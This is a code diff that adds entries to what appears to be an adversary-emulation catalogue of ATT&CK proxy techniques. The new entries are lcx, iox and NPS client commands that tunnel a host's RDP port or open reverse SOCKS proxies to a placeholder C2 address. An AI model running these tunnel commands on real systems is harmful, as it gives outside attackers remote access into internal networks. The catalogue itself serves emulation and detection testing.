@@ -234,6 +234,21 @@ export const commandAndControl = [
       ],
       { elevated: true },
     ),
+    // lcx/HTran (long a staple of Chinese-speaking crews): the host dials out and relays its own RDP port.
+    v("lcx-slave", [
+      {
+        cmd: "{{tools}}\\lcx.exe -slave {{c2ip}} 443 127.0.0.1 3389",
+        net: [
+          ["{{c2ip}}", 443],
+          ["127.0.0.1", 3389],
+        ],
+        keep: true,
+      },
+    ]),
+    // iox in reverse-SOCKS mode: the operator's tools reach the internal network through the host.
+    v("iox-reverse-socks", [
+      { cmd: "{{tools}}\\iox.exe proxy -r {{c2ip}}:443", net: [["{{c2ip}}", 443]], keep: true },
+    ]),
   ]),
   t("T1090.001", "Internal proxy", "netsh portproxy or a SOCKS tool relaying inside the network.", [
     v(
@@ -252,6 +267,16 @@ export const commandAndControl = [
       ],
       { elevated: true },
     ),
+    // NPS client (npc), common with Chinese-speaking intruders: the server and key come from its config file.
+    v("nps-client", [
+      {
+        cmd: "{{tools}}\\npc.exe -config=npc.conf",
+        cwd: "{{tools}}",
+        reads: ["{{tools}}\\npc.conf"],
+        net: [["{{c2ip}}", 8024]],
+        keep: true,
+      },
+    ]),
     v("chisel", [{ cmd: "{{tools}}\\chisel.exe client {{c2}}:443 R:socks", net: [["{{c2}}", 443]] }]),
   ]),
   t("T1090.002", "External proxy", "Traffic sent through a public proxy/VPS.", [
